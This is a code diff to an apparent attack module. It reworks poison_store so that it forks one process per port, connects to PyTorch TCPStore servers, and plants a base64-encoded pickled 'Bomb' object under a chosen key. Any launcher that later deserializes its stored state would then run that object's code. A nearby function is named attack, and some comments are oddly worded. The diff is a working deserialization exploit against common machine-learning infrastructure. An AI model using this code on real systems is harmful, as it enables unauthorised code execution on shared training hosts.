@@ -111,12 +111,17 @@ def attack(ports: Sequence[Port], sent: Sequence[bytes], seconds: float = 2.0) -
 
 def poison_store(ports: Sequence[Port], key: str, bomb: Path) -> None:
     """What ran code once: an object for a store of torch in which a launcher keeps its state."""
+    children = [_poison(port, key, bomb) for port in ports]
+    for child in children:
+        os.waitpid(child, 0)
+
+
+def _poison(port: Port, key: str, bomb: Path) -> int:
     with warnings.catch_warnings():
         warnings.simplefilter("ignore", DeprecationWarning)
         child = os.fork()
     if child:
-        os.waitpid(child, 0)
-        return
+        return child
     try:
         from datetime import timedelta
 
@@ -124,14 +129,11 @@ def poison_store(ports: Sequence[Port], key: str, bomb: Path) -> None:
 
         _become_nobody()
         signal.signal(signal.SIGALRM, signal.SIG_DFL)
-        signal.alarm(5)  # what is no store of torch never answers
+        signal.alarm(4)  # what is no store of torch never answers
         os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
-        for port in ports:
-            with suppress(Exception):
-                store = TCPStore(
-                    port.address, port.number, is_master=False, timeout=timedelta(seconds=2)
-                )
-                store.set(key, base64.b64encode(pickle.dumps(Bomb(bomb))).decode())
+        address = "127.0.0.1" if port.address == "::" else port.address
+        store = TCPStore(address, port.number, is_master=False, timeout=timedelta(seconds=2))
+        store.set(key, base64.b64encode(pickle.dumps(Bomb(bomb))).decode())
     finally:
         os._exit(0)
 
